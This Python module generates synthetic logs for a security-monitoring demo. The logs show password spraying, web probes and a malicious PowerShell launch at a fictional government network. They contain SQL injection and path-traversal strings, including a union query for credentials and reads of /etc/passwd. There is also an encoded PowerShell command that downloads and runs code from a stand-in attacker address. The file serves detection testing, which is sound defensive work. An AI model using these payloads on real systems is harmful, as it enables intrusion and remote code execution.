"""The demo's sample data: an attack on the provincial network hidden in a working day.

Generated, not shipped, so it is always consistent with the current event schema and asset
inventory, and deterministic (fixed seed, start time passed in) so alerts and golden files
are stable. What it contains:

- official mail (``mail-webmail01``): ordinary logins all morning, then password spraying
  from one outside address against 40 accounts, one of which finally succeeds;
- the public service portal (``portal-web01``): ordinary citizens' requests, then SQL
  injection and path traversal probes from a scanner;
- a workstation of an agency (``ag-012-pc017``, Sở Tư pháp): ordinary process starts, then
  a Word document spawning hidden PowerShell with an encoded command (Windows event export,
  Sysmon event 1, the format ``socflow collect files`` reads from EVTX exports);
- a few damaged lines, as real collectors meet them, which must end as dead letters.
"""

from __future__ import annotations

import base64
import json
import random
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

from ingest.schema import format_timestamp

MAIL_HOST = "mail-webmail01"
PORTAL_HOST = "portal-web01"
WORKSTATION = "ag-012-pc017"
SPRAYER = "198.51.100.23"
SCANNER = "192.0.2.77"
USERS = [f"{given}.{family}" for given in ("an", "binh", "chi", "dung", "giang", "hoa", "khanh", "lan")
         for family in ("nguyen", "tran", "le", "pham", "hoang")]


@dataclass(frozen=True)
class ScenarioFiles:
    """Where the generated inputs were written, and how many records of each kind."""

    mail: Path
    portal: Path
    windows: Path
    records: int
    damaged: int


def _mail_event(moment: datetime, user: str, source_ip: str, outcome: str) -> dict[str, Any]:
    return {
        "@timestamp": format_timestamp(moment),
        "event": {"dataset": "mail.auth", "category": ["authentication"], "action": "webmail-login",
                  "outcome": outcome},
        "host": {"name": MAIL_HOST},
        "source": {"ip": source_ip},
        "user": {"name": f"{user}@hoagiang.gov.vn"},
        "message": f"webmail login {outcome} for {user}@hoagiang.gov.vn from {source_ip}",
        "socflow": {"logsource": {"product": "socflow", "service": "mail-auth"}},
    }


def _web_event(moment: datetime, source_ip: str, method: str, path: str, query: str, *, status: int,
               agent: str) -> dict[str, Any]:
    original = f"{path}?{query}" if query else path
    return {
        "@timestamp": format_timestamp(moment),
        "event": {"dataset": "nginx.access", "category": ["web"]},
        "host": {"name": PORTAL_HOST},
        "source": {"ip": source_ip},
        "http": {"request": {"method": method}, "response": {"status_code": status}},
        "url": {"original": original, "path": path, "query": query},
        "user_agent": {"original": agent},
        "socflow": {"logsource": {"category": "webserver"}},
    }


def _sysmon_process(moment: datetime, record_id: int, image: str, command_line: str, parent: str) -> dict[str, Any]:
    return {"Event": {
        "System": {
            "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon",
                                         "Guid": "5770385F-C22A-43E0-BF4C-06F5698FFBD9"}},
            "EventID": 1, "Version": 5, "Level": 4, "Task": 1, "Opcode": 0,
            "Keywords": "0x8000000000000000",
            "TimeCreated": {"#attributes": {"SystemTime": moment.strftime("%Y-%m-%dT%H:%M:%S.%fZ")}},
            "EventRecordID": record_id, "Channel": "Microsoft-Windows-Sysmon/Operational",
            "Computer": f"{WORKSTATION}.hoagiang.gov.vn",
            "Security": {"#attributes": {"UserID": "S-1-5-18"}},
        },
        "EventData": {
            "UtcTime": moment.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
            "ProcessId": 4000 + record_id % 1000, "Image": image, "CommandLine": command_line,
            "CurrentDirectory": "C:\\Users\\lan.pham\\Documents\\",
            "User": "HOAGIANG\\lan.pham", "IntegrityLevel": "Medium",
            "ParentImage": parent, "ParentCommandLine": f'"{parent}"',
        },
    }}


def generate(directory: Path, start: datetime, seed: int = 1022) -> ScenarioFiles:
    """Write the scenario's input files into ``directory`` and return their paths."""
    rng = random.Random(seed)  # noqa: S311 - reproducible sample data, not security
    directory.mkdir(parents=True, exist_ok=True)
    mail: list[str] = []
    for minute in range(0, 180, 3):  # a working morning of ordinary logins
        user = rng.choice(USERS)
        outcome = "failure" if rng.random() < 0.05 else "success"
        mail.append(json.dumps(_mail_event(start + timedelta(minutes=minute, seconds=rng.randint(0, 59)),
                                           user, f"10.20.{rng.randint(1, 30)}.{rng.randint(10, 200)}", outcome)))
    spray_start = start + timedelta(hours=2)
    for index, user in enumerate(USERS):  # 40 accounts, one password each, 6 s apart
        mail.append(json.dumps(_mail_event(spray_start + timedelta(seconds=6 * index), user, SPRAYER, "failure")))
    mail.append(json.dumps(_mail_event(spray_start + timedelta(seconds=250), "hoa.le", SPRAYER, "success")))
    mail.insert(25, '{"@timestamp": "2026-11-20T09:14:00Z", "event": {"dataset": "mail.auth"')  # torn line

    agents = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/131.0", "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1)"]
    pages = ["/", "/dich-vu-cong/nop-ho-so", "/tra-cuu-ho-so", "/thu-tuc-hanh-chinh", "/static/app.js"]
    portal: list[str] = []
    for second in range(0, 3 * 3600, 20):
        page = rng.choice(pages)
        query = f"ma_ho_so=HG{rng.randint(100000, 999999)}" if page == "/tra-cuu-ho-so" else ""
        portal.append(json.dumps(_web_event(start + timedelta(seconds=second), f"203.0.113.{rng.randint(100, 250)}",
                                            "GET", page, query, status=200, agent=rng.choice(agents))))
    attack_start = start + timedelta(hours=1, minutes=30)
    probes = [
        ("/tra-cuu-ho-so", "ma_ho_so=1' OR '1'='1", 500),
        ("/tra-cuu-ho-so", "ma_ho_so=1 UNION SELECT username,password FROM users--", 500),
        ("/tra-cuu-ho-so", "ma_ho_so=1;SELECT pg_sleep(10)", 504),
        ("/tai-lieu", "file=../../../../etc/passwd", 404),
        ("/tai-lieu", "file=..%2f..%2f..%2fwindows%2fwin.ini", 404),
    ]
    for index, (path, query, status) in enumerate(probes):
        portal.append(json.dumps(_web_event(attack_start + timedelta(seconds=index * 2), SCANNER, "GET", path, query,
                                            status=status, agent="sqlmap/1.8.11#stable (https://sqlmap.org)")))
    portal.append("this is not json at all")  # damaged line

    windows: list[dict[str, Any]] = []
    record = 52000
    for minute in range(0, 180, 7):
        record += 1
        image, parent = rng.choice([
            ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "C:\\Windows\\explorer.exe"),
            ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "C:\\Windows\\explorer.exe"),
            ("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\services.exe"),
        ])
        windows.append(_sysmon_process(start + timedelta(minutes=minute), record, image, f'"{image}"', parent))
    payload = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a')"
                               .encode("utf-16-le")).decode()
    record += 1
    windows.append(_sysmon_process(
        start + timedelta(hours=2, minutes=10), record,
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        f"powershell.exe -NoProfile -WindowStyle Hidden -enc {payload}",
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"))
    windows.sort(key=lambda item: item["Event"]["System"]["EventRecordID"])

    mail_path, portal_path, windows_path = (directory / name for name in (
        "mail-auth.jsonl", "portal-access.jsonl", "workstation-sysmon.json"))
    mail_path.write_text("\n".join(mail) + "\n", encoding="utf-8")
    portal_path.write_text("\n".join(portal) + "\n", encoding="utf-8")
    windows_path.write_text("\n".join(json.dumps(item) for item in windows) + "\n", encoding="utf-8")
    return ScenarioFiles(mail=mail_path, portal=portal_path, windows=windows_path,
                         records=len(mail) + len(portal) + len(windows), damaged=2)
